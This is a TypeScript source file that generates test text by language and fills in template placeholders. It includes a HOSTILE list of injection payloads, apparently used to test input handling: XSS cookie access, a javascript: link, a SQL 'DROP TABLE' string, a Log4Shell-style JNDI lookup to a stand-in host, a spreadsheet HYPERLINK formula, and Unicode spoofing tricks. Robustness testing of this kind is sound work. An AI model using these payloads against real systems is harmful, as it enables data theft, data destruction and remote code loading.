import type { Random } from "../../random.ts";
import type { Language } from "../offices.ts";
import { ARABIC } from "./arabic.ts";
import { CHINESE } from "./chinese.ts";
import { ENGLISH } from "./english.ts";
import { FRENCH } from "./french.ts";
import { GERMAN } from "./german.ts";
import { JAPANESE } from "./japanese.ts";
import { SPANISH } from "./spanish.ts";
import { THAI } from "./thai.ts";
import type { Topic } from "./topic.ts";

const BY_LANGUAGE: Readonly<Record<Language, readonly Topic[]>> = {
  en: ENGLISH,
  de: GERMAN,
  fr: FRENCH,
  es: SPANISH,
  ja: JAPANESE,
  zh: CHINESE,
  th: THAI,
  ar: ARABIC,
};

/** What people of that language talk about. */
export function topicsIn(language: Language): readonly Topic[] {
  return BY_LANGUAGE[language];
}

const PRODUCTS = ["Sensor 4", "Tidegauge", "Beacon Lite", "Logger X2", "Harbour Hub"];

/** Fills the blanks of a text: `{n}` a number, `{pct}` a percentage, `{product}`, `{who}` a colleague's first name, `{id}` a ticket. */
export function fillIn(text: string, random: Random, colleague: string): string {
  return text.replace(/\{(n|pct|product|who|id)\}/g, (_, blank: string) => {
    if (blank === "n") return String(random.between(2, 950));
    if (blank === "pct") return `${random.between(1, 48)}.${random.between(0, 9)} %`;
    if (blank === "product") return random.pick(PRODUCTS);
    if (blank === "who") return colleague;
    return `HL-${random.between(1000, 9999)}`;
  });
}

const HOSTILE = [
  "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
  "[click](javascript:alert(1)) ![pixel](https://tracker.invalid/p.gif?u=1)",
  "\u202Etxt.exe\u202C looks like exe.txt \u200B\u200D\uFEFF",
  "nul \u0000 bell \u0007 escape \u001B[31mred\u001B[0m",
  "half a pair: \uD83D and the other half: \uDE00",
  '=HYPERLINK("https://tracker.invalid","open")',
  `'; DROP TABLE events; -- \${jndi:ldap://tracker.invalid/a} {{7*7}}`,
];

/** A text that tries what hostile texts try. */
export function hostileText(random: Random): string {
  return random.pick(HOSTILE);
}
